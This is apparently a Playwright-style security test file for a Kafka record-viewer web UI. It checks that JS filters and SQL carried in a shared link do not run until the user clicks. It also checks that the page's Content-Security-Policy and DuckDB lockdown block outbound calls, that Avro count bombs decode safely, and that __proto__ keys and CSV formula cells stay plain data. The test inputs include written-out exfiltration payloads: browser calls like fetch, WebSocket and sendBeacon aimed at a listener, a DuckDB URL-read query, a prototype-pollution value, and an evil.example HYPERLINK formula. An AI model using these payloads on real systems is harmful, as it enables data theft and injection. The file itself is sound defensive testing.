// The inspection page against hostile links and values, in the engine of the run (engines.mjs), served
// by `kafka-fetch-decoder ui` over Tansu and the project's registry:
//   - a shared link whose JS filter and SQL would send the records to a local listener: shown in
//     their boxes, run by nothing but the user's click, and even then unable to reach the listener
//     (the page's Content-Security-Policy, the JS filter's own worker, DuckDB without external access);
//   - a topic of Avro count bombs between good records: the tail shows every record, the bombs as
//     value errors, at once;
//   - a JSON member named __proto__ shown as data; a CSV export with formula cells made text.
// Needs .venv-brokers, the engine and a built pkg/.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import { startUi } from './chromium.mjs';
import { launchBrowser } from './engines.mjs';
import { produce, startTansu } from '../live/brokers.mjs';
import { bombTopic } from '../live/hostile-values.mjs';
import { startRegistry } from '../live/registry.mjs';

const ORDERS = [
  ...Array.from({ length: 30 }, (_, n) => JSON.stringify({ n, total: n * 50 })),
  '{"__proto__":{"isAdmin":true},"user":"mallory"}',
  '=HYPERLINK("http://evil.example/?x","click")',
];

let tansu;
let registry;
let ui;
let browser;
let page;
let listener;
let bombs;
const reached = []; // what reached the listener: every connection, whatever it carried
const pageErrors = [];

before(async () => {
  [tansu, registry] = await Promise.all([startTansu(), startRegistry()]);
  bombs = bombTopic(registry);
  await produce(tansu, { topic: bombs.topic, create: { partitions: 1 }, records: bombs.records });
  await produce(tansu, {
    topic: 'orders',
    create: { partitions: 1 },
    records: ORDERS.map((v) => ({ partition: 0, value_b64: Buffer.from(v).toString('base64') })),
  });
  listener = http.createServer((req, res) => {
    reached.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
    res.end('export default 1;');
  });
  listener.on('connection', () => reached.push('connection'));
  await new Promise((resolve) => listener.listen(0, '127.0.0.1', resolve));
  ui = await startUi(tansu.bootstrap, { args: ['--schema-registry', registry.url] });
  browser = await launchBrowser({ viewport: { width: 1600, height: 1000 }, acceptDownloads: true });
  ({ page } = browser);
  page.on('pageerror', (err) => pageErrors.push(err.message));
});

after(async () => {
  await browser?.close();
  await ui?.stop();
  await Promise.all([tansu?.stop(), registry?.close()]);
  listener?.closeAllConnections();
  listener?.close();
});

async function tail(query, count) {
  await page.goto(`${ui.origin}/www/?${query}`);
  await page.waitForFunction((n) => Number(document.getElementById('match-count').dataset.count) >= n, count, { timeout: 30_000 });
  await page.waitForSelector('#filters:not([data-busy])', { timeout: 30_000 });
}

test("a link's JS filter and SQL are shown, not run; run by a click, they still cannot reach the listener", { timeout: 180_000 }, async () => {
  const target = `127.0.0.1:${listener.address().port}`;
  // every way out a worker has, each tried; the filter matches every record once it has run
  const ways = [
    `fetch('http://${target}/f?' + JSON.stringify(value))`,
    `import('http://${target}/m.js')`,
    "import('/pkg/web.mjs')",
    `new WebSocket('ws://${target}/w')`,
    `new EventSource('http://${target}/e')`,
    `importScripts('http://${target}/i.js')`,
    `{ const x = new XMLHttpRequest(); x.open('GET', 'http://${target}/x'); x.send(); }`,
    `new Worker('data:text/javascript,fetch("http://${target}/n")')`,
    `navigator.sendBeacon('http://${target}/b', 'x')`,
  ];
  const js = `(() => { for (const go of [${ways.map((w) => `() => ${w}`).join(', ')}]) { try { go()?.catch?.(() => {}); } catch {} } return true; })()`;
  // record data put into a URL, then read (the typed attack: SET VARIABLE and getvariable)
  const sql = `SET VARIABLE u = 'http://${target}/sql?' || (SELECT string_agg(value::VARCHAR, ',') FROM records); SELECT * FROM read_text(getvariable('u'))`;
  await tail(`mode=live&topic=orders&js=${encodeURIComponent(js)}&sql=${encodeURIComponent(sql)}`, ORDERS.length);
  await page.waitForTimeout(1000);
  assert.deepEqual(reached, [], 'opening the link ran nothing');
  // shown, not run: every record is there, the box holds the code and says it has not run
  assert.equal(await page.getAttribute('#match-count', 'data-count'), String(ORDERS.length));
  assert.equal(await page.inputValue('#filter-js'), js);
  assert.equal(await page.getAttribute('#filter-js', 'data-held'), 'true');
  assert.ok(await page.isVisible('#filter-js-run'));
  await page.click('#sql-open');
  await page.waitForSelector('#sql-state[data-kind="info"]', { timeout: 90_000 });
  assert.equal(await page.inputValue('#sql-text'), sql);
  assert.match(await page.textContent('#sql-state'), /came with the link and has not run/);
  await page.click('#sql-close');
  await page.waitForTimeout(1000);
  assert.deepEqual(reached, [], 'nothing ran');

  // the user runs the JS filter: it runs (every record matches) and reaches nothing
  await page.click('#filter-js-run');
  await page.waitForFunction(() => /matches of/.test(document.getElementById('match-count').textContent), null, { timeout: 30_000 });
  await page.waitForSelector('#filters:not([data-busy])');
  assert.equal(await page.textContent('#match-count'), `${ORDERS.length} matches of ${ORDERS.length} scanned`);
  assert.ok(await page.isHidden('#filter-js-run'));
  // a link's code cleared before it ran: nothing waits to be run
  await page.goto(`${ui.origin}/www/?mode=live&topic=orders&js=${encodeURIComponent(js)}`);
  await page.waitForSelector('#filter-js[data-held]', { timeout: 30_000 });
  await page.click('#filter-clear');
  assert.ok(await page.isHidden('#filter-js-run'));
  assert.equal(await page.getAttribute('#filter-js', 'data-held'), null);
  // and the SQL: DuckDB reads no URL, and its setting cannot be turned back
  await page.click('#sql-open');
  await page.waitForSelector('#sql-state:not([data-kind="busy"])', { timeout: 90_000 });
  for (const [query, refusal] of [
    [sql, /Permission Error: .*disabled by configuration/],
    ['SET enable_external_access = true', /configuration has been locked/],
    ['LOAD httpfs', /Loading external extensions is disabled/],
  ]) {
    await page.fill('#sql-text', query);
    await page.evaluate(() => {
      document.getElementById('sql-state').dataset.kind = 'pending';
    });
    await page.click('#sql-run');
    await page.waitForSelector('#sql-state[data-kind="error"], #sql-state[data-kind="ok"]', { timeout: 60_000 });
    assert.match(await page.textContent('#sql-state'), refusal, query);
  }
  await page.waitForTimeout(1000);
  assert.deepEqual(reached, [], 'the listener was never reached');
  // the page's own policy says where it may connect: its origin and its relay
  const policy = (await fetch(`${ui.origin}/www/`)).headers.get('content-security-policy');
  assert.match(policy, /connect-src 'self' ws:\/\/127\.0\.0\.1:\d+(;|$)/);
  assert.equal(
    (await fetch(`${ui.origin}/www/workers/js-filter/js-worker.js`)).headers.get('content-security-policy'),
    "default-src 'none'; script-src 'unsafe-eval'",
  );
  await page.click('#sql-close');
});

test('a topic of Avro count bombs: every record shown at once, the bombs as value errors', { timeout: 120_000 }, async () => {
  const started = Date.now();
  await tail(`mode=live&topic=${bombs.topic}`, bombs.expected.length);
  const ms = Date.now() - started;
  const values = await page.$$eval('#records .vrows .vrow:not([hidden])', (rows) =>
    rows.sort((a, b) => Number(a.dataset.row) - Number(b.dataset.row)).map((r) => r.querySelector('[data-column="value"]').textContent),
  );
  assert.equal(values.length, bombs.expected.length);
  bombs.expected.forEach((want, i) => {
    if (want.bomb) assert.doesNotMatch(values[i], /"n"/, `offset ${i}: ${want.bomb}`);
    else assert.match(values[i], new RegExp(`"n":\\s*${want.n}\\b`), `offset ${i}`);
  });
  assert.ok(ms < 30_000, `${ms} ms`);
  // a bomb's detail says why it was not decoded
  await page.click('#records .vrow[data-row="1"]');
  await page.waitForFunction(() => /items that take no bytes|bytes are left/.test(document.getElementById('detail').textContent), null, { timeout: 10_000 });
});

test('a JSON member named __proto__ is data in the table, the detail and SQL; a CSV export makes formula cells text', { timeout: 120_000 }, async () => {
  await tail('mode=live&topic=orders', ORDERS.length);
  const row = ORDERS.length - 2;
  assert.match(await page.textContent(`#records .vrow[data-row="${row}"] [data-column="value"]`), /__proto__/);
  await page.click(`#records .vrow[data-row="${row}"]`);
  await page.waitForFunction(() => /__proto__[\s\S]*isAdmin/.test(document.getElementById('detail-value')?.textContent ?? ''), null, { timeout: 10_000 });
  await page.click('#sql-open');
  await page.waitForSelector('#sql-state:not([data-kind="busy"])', { timeout: 90_000 });
  await page.fill('#sql-text', `SELECT value_decoded FROM records WHERE value_decoded LIKE '%isAdmin%'`);
  await page.evaluate(() => {
    document.getElementById('sql-state').dataset.kind = 'pending';
  });
  await page.click('#sql-run');
  await page.waitForSelector('#sql-state[data-kind="ok"]', { timeout: 60_000 });
  assert.equal(await page.textContent('#sql-results .vrow[data-row="0"] .vcell'), '{"__proto__":{"isAdmin":true},"user":"mallory"}');
  await page.click('#sql-close');
  if (!(await page.isVisible('#export'))) await page.click('#export-menu > summary');
  await page.selectOption('#export-format', 'csv');
  await page.selectOption('#export-mode', 'text');
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
  const lines = fs
    .readFileSync(await download.path(), 'utf8')
    .trim()
    .split('\n');
  assert.ok(
    lines.some((l) => l.includes('"\'=HYPERLINK(""http://evil.example/?x"",""click"")"')),
    lines.at(-1),
  );
  assert.ok(!lines.some((l) => /,"?=HYPERLINK/.test(l)));
  assert.deepEqual(pageErrors, []);
});
